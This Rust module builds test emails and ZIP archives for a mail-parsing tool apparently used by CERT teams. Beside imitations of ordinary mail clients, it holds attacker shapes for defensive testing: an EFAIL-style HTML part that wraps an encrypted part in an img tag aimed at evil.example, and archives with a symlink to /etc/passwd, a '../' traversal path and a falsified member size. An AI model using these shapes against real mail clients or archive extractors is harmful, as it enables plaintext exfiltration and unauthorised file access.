//! Mails and archives made for tests: shapes of programs in use, and those that attackers use.
//!
//! In scope: bytes. Out of scope: what must become of them (the tests). No file of others is in here.

#![allow(dead_code, reason = "each test, example and target uses a part of it")]

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Lines with LF become lines with CRLF.
pub(crate) fn crlf(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

/// Base64 in lines of 76 characters.
pub(crate) fn base64(bytes: &[u8]) -> String {
    let text = STANDARD.encode(bytes);
    let mut lines = String::with_capacity(text.len() + text.len() / 76 * 2);
    for line in text.as_bytes().chunks(76) {
        lines.push_str(std::str::from_utf8(line).unwrap());
        lines.push_str("\r\n");
    }
    lines
}

/// The fields that every mail has, then `more` lines of header.
pub(crate) fn header(more: &str) -> String {
    let more = more.replace("\r\n", "\n").replace('\n', "\r\n");
    format!(
        "From: The duty officer <duty@cert-a.example>\r\nTo: poc@in.cert-b.example\r\n\
         Date: Tue, 03 Nov 2026 09:00:00 +0100\r\nMessage-ID: <one@cert-a.example>\r\n{more}\r\n"
    )
}

/// A mail with this content behind [`header`].
pub(crate) fn mail(more: &str, body: &[u8]) -> Vec<u8> {
    [header(more).as_bytes(), body].concat()
}

/// A mail of plain words.
pub(crate) fn plain(subject: &str, body: &str) -> Vec<u8> {
    let more = format!("Subject: {subject}\nContent-Type: text/plain; charset=utf-8\n");
    mail(&more, &crlf(body))
}

/// One part: lines of its header, and its body.
pub(crate) struct Part(pub(crate) String, pub(crate) Vec<u8>);

impl Part {
    pub(crate) fn text(body: &str) -> Self {
        Self(
            "Content-Type: text/plain; charset=utf-8".to_owned(),
            crlf(body),
        )
    }

    pub(crate) fn html(body: &str) -> Self {
        Self(
            "Content-Type: text/html; charset=utf-8".to_owned(),
            crlf(body),
        )
    }

    pub(crate) fn file(media_type: &str, name: &str, bytes: &[u8]) -> Self {
        let header = format!(
            "Content-Type: {media_type}; name=\"{name}\"\nContent-Transfer-Encoding: base64\n\
             Content-Disposition: attachment; filename=\"{name}\""
        );
        Self(header, base64(bytes).into_bytes())
    }

    pub(crate) fn of(header: &str, body: &[u8]) -> Self {
        Self(header.to_owned(), body.to_vec())
    }
}

/// The body of a multipart.
pub(crate) fn parts(boundary: &str, all: &[Part]) -> Vec<u8> {
    let mut body = Vec::new();
    for Part(header, bytes) in all {
        body.extend(format!("--{boundary}\r\n{}\r\n\r\n", header.replace('\n', "\r\n")).bytes());
        body.extend(bytes);
        body.extend(b"\r\n");
    }
    body.extend(format!("--{boundary}--\r\n").bytes());
    body
}

/// A whole multipart as a part.
pub(crate) fn multipart(kind: &str, boundary: &str, all: &[Part]) -> Part {
    Part(
        format!("Content-Type: multipart/{kind}; boundary=\"{boundary}\""),
        parts(boundary, all),
    )
}

/// A mail with these parts.
pub(crate) fn mixed(subject: &str, all: &[Part]) -> Vec<u8> {
    let Part(header, body) = multipart("mixed", "=_outer", all);
    mail(
        &format!("Subject: {subject}\nMIME-Version: 1.0\n{header}\n"),
        &body,
    )
}

/// Messages in messages.
pub(crate) fn nested_messages(levels: usize) -> Vec<u8> {
    let mut body = header("Subject: nested\nContent-Type: message/rfc822\n").into_bytes();
    for _ in 0..levels {
        body.extend(b"Content-Type: message/rfc822\r\n\r\n");
    }
    body
}

/// Multiparts in multiparts.
pub(crate) fn nested_multiparts(levels: usize) -> Vec<u8> {
    let mut body = header("Subject: nested\nContent-Type: multipart/mixed; boundary=b0\n");
    for level in 1..=levels {
        let _ = write!(
            body,
            "--b{}\r\nContent-Type: multipart/mixed; boundary=b{level}\r\n\r\n",
            level - 1
        );
    }
    body.push_str("deep\r\n");
    body.into_bytes()
}

/// Many empty parts.
pub(crate) fn many_parts(count: usize) -> Vec<u8> {
    let mut body = header("Subject: many\nContent-Type: multipart/mixed; boundary=b\n");
    for _ in 0..count {
        body.push_str("--b\r\n\r\n\r\n");
    }
    body.push_str("--b--\r\n");
    body.into_bytes()
}

/// Messages in messages, each of them in Base64 around the next.
pub(crate) fn base64_onion(levels: usize) -> Vec<u8> {
    let mut inner = plain("core", "198.51.100.7\n");
    for _ in 0..levels {
        let more =
            "Subject: onion\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n";
        inner = mail(more, base64(&inner).as_bytes());
    }
    inner
}

/// A member of an archive, and the lies about it.
#[derive(Clone)]
pub(crate) struct Member {
    pub(crate) name: String,
    pub(crate) bytes: Vec<u8>,
    pub(crate) deflate: bool,
    pub(crate) password: Option<&'static str>,
    /// What the list says of its size, if it lies.
    pub(crate) size: Option<u32>,
    /// The mode of Unix.
    pub(crate) mode: u32,
    /// Where the list says that it stands, if it lies.
    pub(crate) place: Option<u32>,
}

impl Member {
    pub(crate) fn new(name: &str, bytes: &[u8]) -> Self {
        Self {
            name: name.to_owned(),
            bytes: bytes.to_vec(),
            deflate: true,
            password: None,
            size: None,
            mode: 0o100_644,
            place: None,
        }
    }
}

fn crc(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// The traditional encryption, written anew from the specification so that it does not test itself.
fn encrypt(bytes: &[u8], password: &str, check: u8) -> Vec<u8> {
    fn step(crc: u32, byte: u8) -> u32 {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| {
            if crc & 1 == 1 {
                0xEDB8_8320 ^ (crc >> 1)
            } else {
                crc >> 1
            }
        })
    }
    fn update(keys: &mut [u32; 3], byte: u8) {
        keys[0] = step(keys[0], byte);
        keys[1] = (keys[1].wrapping_add(keys[0] & 0xFF))
            .wrapping_mul(0x0808_8405)
            .wrapping_add(1);
        keys[2] = step(keys[2], keys[1].to_be_bytes()[0]);
    }
    let mut keys = [0x1234_5678, 0x2345_6789, 0x3456_7890];
    password.bytes().for_each(|byte| update(&mut keys, byte));
    let mut plain = vec![0x5A; 11];
    plain.push(check);
    plain.extend(bytes);
    plain
        .into_iter()
        .map(|byte| {
            let number = (keys[2] | 2) & 0xFFFF;
            let stream = number.wrapping_mul(number ^ 1).to_le_bytes()[1];
            update(&mut keys, byte);
            byte ^ stream
        })
        .collect()
}

/// An archive of these members.
pub(crate) fn zip(members: &[Member]) -> Vec<u8> {
    let mut archive = Vec::new();
    let mut list = Vec::new();
    for member in members {
        let crc = crc(&member.bytes);
        let mut packed = member.bytes.clone();
        if member.deflate {
            let mut encoder =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
            std::io::Write::write_all(&mut encoder, &member.bytes).unwrap();
            packed = encoder.finish().unwrap();
        }
        if let Some(password) = member.password {
            packed = encrypt(&packed, password, crc.to_be_bytes()[0]);
        }
        let size = member
            .size
            .unwrap_or_else(|| u32::try_from(member.bytes.len()).unwrap());
        let mut said = Vec::new();
        said.extend(20_u16.to_le_bytes());
        said.extend(u16::from(member.password.is_some()).to_le_bytes());
        said.extend(if member.deflate { 8_u16 } else { 0 }.to_le_bytes());
        said.extend([0; 4]);
        said.extend(crc.to_le_bytes());
        said.extend(u32::try_from(packed.len()).unwrap().to_le_bytes());
        said.extend(size.to_le_bytes());
        said.extend(u16::try_from(member.name.len()).unwrap().to_le_bytes());
        said.extend([0; 2]);
        let place = u32::try_from(archive.len()).unwrap();
        archive.extend(b"PK\x03\x04");
        archive.extend(&said);
        archive.extend(member.name.bytes());
        archive.extend(packed);
        list.extend(b"PK\x01\x02\x14\x03");
        list.extend(&said);
        list.extend([0; 6]);
        list.extend((member.mode << 16).to_le_bytes());
        list.extend(member.place.unwrap_or(place).to_le_bytes());
        list.extend(member.name.bytes());
    }
    let begin = u32::try_from(archive.len()).unwrap();
    let count = u16::try_from(members.len()).unwrap();
    archive.extend(&list);
    archive.extend(b"PK\x05\x06\0\0\0\0");
    archive.extend(count.to_le_bytes());
    archive.extend(count.to_le_bytes());
    archive.extend(u32::try_from(list.len()).unwrap().to_le_bytes());
    archive.extend(begin.to_le_bytes());
    archive.extend([0; 2]);
    archive
}

/// As Thunderbird sends: flowed text, an attachment.
pub(crate) fn thunderbird() -> Vec<u8> {
    let more = "Content-Type: multipart/mixed; boundary=\"------------0Yz8\"\n\
                MIME-Version: 1.0\nUser-Agent: Mozilla Thunderbird\nContent-Language: en-GB\n\
                Subject: [TLP:AMBER] Beacons to a new server\nIn-Reply-To: <q@in.cert-b.example>\n\
                References: <p@in.cert-b.example>\n <q@in.cert-b.example>\n";
    let text = Part::of(
        "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit",
        &crlf(
            "Dear colleagues,\n\nbeacons to hxxps://evil[.]example/a — see the bundle.\n\n-- \nThe duty officer\n",
        ),
    );
    let bundle = br#"{"type":"bundle","id":"bundle--1","objects":[{"type":"x","id":"x--1"}]}"#;
    let file = Part::file("application/json", "bundle.json", bundle);
    mail(more, &parts("------------0Yz8", &[text, file]))
}

/// As Outlook sends to those that it takes for its like.
pub(crate) fn outlook() -> Vec<u8> {
    let more = "Subject: Report\nMIME-Version: 1.0\nX-MS-TNEF-Correlator: <one@cert-a.example>\n\
                Content-Type: multipart/mixed;\n\tboundary=\"----=_NextPart_000_0007_01DC\"\n\
                Thread-Index: AQHbVXm=\n";
    let text = Part::of(
        "Content-Type: text/plain;\n\tcharset=\"us-ascii\"\nContent-Transfer-Encoding: 7bit",
        &crlf("See attached.\n"),
    );
    let tnef = Part::file(
        "application/ms-tnef",
        "winmail.dat",
        b"\x78\x9f\x3e\x22\x01\x00\x01\x06",
    );
    mail(more, &parts("----=_NextPart_000_0007_01DC", &[text, tnef]))
}

/// As Apple Mail sends: alternatives, a file between two pieces of HTML.
pub(crate) fn apple_mail() -> Vec<u8> {
    let plain = Part::of(
        "Content-Type: text/plain;\n\tcharset=utf-8\nContent-Transfer-Encoding: quoted-printable",
        &crlf("Hello =E2=80=93 the values are in the =\nfile.\n"),
    );
    let html = Part::of(
        "Content-Transfer-Encoding: 7bit\nContent-Type: text/html;\n\tcharset=us-ascii",
        &crlf("<html><body>Hello &#8211; the values are in the file.<br></body></html>\n"),
    );
    let file = Part::of(
        "Content-Disposition: attachment;\n\tfilename*=utf-8''W%C3%A9rte.csv\nContent-Type: text/csv;\n\tx-unix-mode=0644\nContent-Transfer-Encoding: 7bit",
        &crlf("value,type\nevil.example,domain\n198.51.100.9,ipv4\n"),
    );
    let inner = multipart("mixed", "Apple-Mail=_2", &[html, file]);
    let more = "Content-Type: multipart/alternative;\n\tboundary=\"Apple-Mail=_1\"\nSubject: Values\n\
                Mime-Version: 1.0 (Mac OS X Mail 16.0)\nX-Mailer: Apple Mail\n";
    mail(more, &parts("Apple-Mail=_1", &[plain, inner]))
}

/// As a mailing list passes a signed mail on, with a footer behind.
pub(crate) fn mailing_list() -> Vec<u8> {
    let signed = signed_part("I confirm the request.\n");
    let footer =
        Part::text("_______________________________________________\nIncidents mailing list\n");
    let more = "Subject: [incidents] Request\nMIME-Version: 1.0\nPrecedence: list\n\
                List-Id: Incidents <incidents.lists.example>\nList-Post: <mailto:incidents@lists.example>\n\
                Content-Type: multipart/mixed; boundary=\"===============12==\"\n";
    mail(more, &parts("===============12==", &[signed, footer]))
}

/// A part as PGP/MIME signs it; the signature is none.
pub(crate) fn signed_part(words: &str) -> Part {
    let signature = Part::of(
        "Content-Type: application/pgp-signature; name=\"signature.asc\"",
        b"-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----",
    );
    Part(
        "Content-Type: multipart/signed; micalg=pgp-sha512;\n protocol=\"application/pgp-signature\"; boundary=\"sig\""
            .to_owned(),
        parts("sig", &[Part::text(words), signature]),
    )
}

/// A mail that is signed as a whole.
pub(crate) fn signed() -> Vec<u8> {
    let Part(header, body) = signed_part("I confirm the request.\n");
    mail(
        &format!("Subject: Request\nMIME-Version: 1.0\n{header}\n"),
        &body,
    )
}

/// A part as PGP/MIME encrypts it; the data is none.
pub(crate) fn encrypted_part() -> Part {
    let control = Part::of("Content-Type: application/pgp-encrypted", b"Version: 1\r\n");
    let data = Part::of(
        "Content-Type: application/octet-stream; name=\"encrypted.asc\"",
        b"-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n-----END PGP MESSAGE-----",
    );
    Part(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\""
            .to_owned(),
        parts("enc", &[control, data]),
    )
}

/// The shape of EFAIL: a quote opened before the encrypted part and closed behind it.
pub(crate) fn efail() -> Vec<u8> {
    let before = Part::html("<img src=\"https://evil.example/");
    let behind = Part::html("\">");
    mixed("Important", &[before, encrypted_part(), behind])
}

/// Chinese in encoded words and in a body, in this character set.
pub(crate) fn chinese(charset: &str, encoded: &[u8]) -> Vec<u8> {
    let word = STANDARD.encode(encoded);
    let more = format!(
        "Subject: =?{charset}?B?{word}?=\nMIME-Version: 1.0\n\
         Content-Type: text/plain; charset={charset}\nContent-Transfer-Encoding: base64\n"
    );
    let body = [encoded, b" 198.51.100.7\r\n"].concat();
    mail(&more, base64(&body).as_bytes())
}

/// A report with its three parts (RFC 6522).
pub(crate) fn report(kind: &str, media_type: &str, fields: &str) -> Vec<u8> {
    let original = header("Subject: original\n").replace("<one@", "<original@");
    let all = [
        Part::text("This is about your mail, seen at 198.51.100.77.\n"),
        Part(format!("Content-Type: {media_type}"), crlf(fields)),
        Part::of(
            "Content-Type: message/rfc822",
            [original.as_bytes(), b"words\r\n"].concat().as_slice(),
        ),
    ];
    let more = format!(
        "Subject: Report\nMIME-Version: 1.0\nAuto-Submitted: auto-replied\n\
         Content-Type: multipart/report; report-type={kind}; boundary=\"rep\"\n"
    );
    mail(&more, &parts("rep", &all))
}

/// A delivery report.
pub(crate) fn bounce() -> Vec<u8> {
    report(
        "delivery-status",
        "message/delivery-status",
        "Reporting-MTA: dns; mx.cert-a.example\nOriginal-Envelope-Id: env-7\n\n\
         Final-Recipient: rfc822; poc@cert-a.example\nAction: failed\nStatus: 5.1.1\n\
         Diagnostic-Code: smtp; 550 5.1.1\n no such user\n",
    )
}

/// A disposition notice.
pub(crate) fn shown() -> Vec<u8> {
    report(
        "disposition-notification",
        "message/disposition-notification",
        "Reporting-UA: desk; mail\nFinal-Recipient: rfc822; poc@cert-a.example\n\
         Original-Message-ID: <original@cert-a.example>\n\
         Disposition: manual-action/MDN-sent-manually; displayed\n",
    )
}

/// A report of abuse.
pub(crate) fn abuse() -> Vec<u8> {
    report(
        "feedback-report",
        "message/feedback-report",
        "Feedback-Type: abuse\nUser-Agent: desk/1\nVersion: 1\nSource-IP: 192.0.2.9\n\
         Original-Mail-From: <spam@evil.example>\nReported-Domain: evil.example\n\
         Reported-URI: http://evil.example/x\nArrival-Date: Tue, 03 Nov 2026 08:00:00 +0000\n",
    )
}

/// Archives of each kind, by name: the beginning of a fuzz corpus.
pub(crate) fn archives() -> Vec<(&'static str, Vec<u8>)> {
    let mut locked = Member::new("sample.bin", b"MZ a sample");
    locked.password = Some("infected");
    let mut stored = Member::new("folder/stored", b"as it is");
    stored.deflate = false;
    let mut lies = Member::new("zeros", &[0; 3_000]);
    lies.size = Some(10);
    let inner = zip(&[Member::new("inner", b"words words words")]);
    vec![
        ("link-and-up", {
            let mut link = Member::new("link", b"/etc/passwd");
            link.mode = 0o120_777;
            zip(&[link, Member::new("../up", b"x")])
        }),
        ("locked", zip(&[locked])),
        ("lies", zip(&[lies])),
        (
            "nested",
            zip(&[Member::new("inner.zip", &inner), stored.clone()]),
        ),
        (
            "plain",
            zip(&[
                Member::new("folder/", b""),
                stored,
                Member::new("empty", b""),
            ]),
        ),
    ]
}

/// One of each shape, by name: the beginning of a fuzz corpus.
pub(crate) fn corpus() -> Vec<(&'static str, Vec<u8>)> {
    let mut locked = Member::new("sample.bin", b"MZ a sample");
    locked.password = Some("infected");
    let archive = |members: &[Member]| {
        mixed(
            "Sample",
            &[
                Part::text("sample\n"),
                Part::file("application/zip", "s.zip", &zip(members)),
            ],
        )
    };
    let clear = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nI agree.\n\
                 -----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n";
    vec![
        ("abuse", abuse()),
        ("apple-mail", apple_mail()),
        ("archive", archive(&[locked])),
        ("bounce", bounce()),
        (
            "chinese",
            chinese("GB18030", b"\xb9\xd8\xd3\xda\xb9\xa5\xbb\xf7"),
        ),
        ("clear-signed", plain("TLP:GREEN", clear)),
        ("efail", efail()),
        ("mailing-list", mailing_list()),
        ("many-parts", many_parts(5)),
        ("nested-messages", nested_messages(3)),
        ("nested-multiparts", nested_multiparts(4)),
        ("onion", base64_onion(2)),
        ("outlook", outlook()),
        (
            "plain",
            plain("TLP:RED", "198.51.100[.]7 hxxp://evil[.]example/\n"),
        ),
        (
            "quine",
            archive(&[Member::new("inner.zip", &zip(&[Member::new("a", b"a")]))]),
        ),
        ("shown", shown()),
        ("signed", signed()),
        ("thunderbird", thunderbird()),
    ]
}
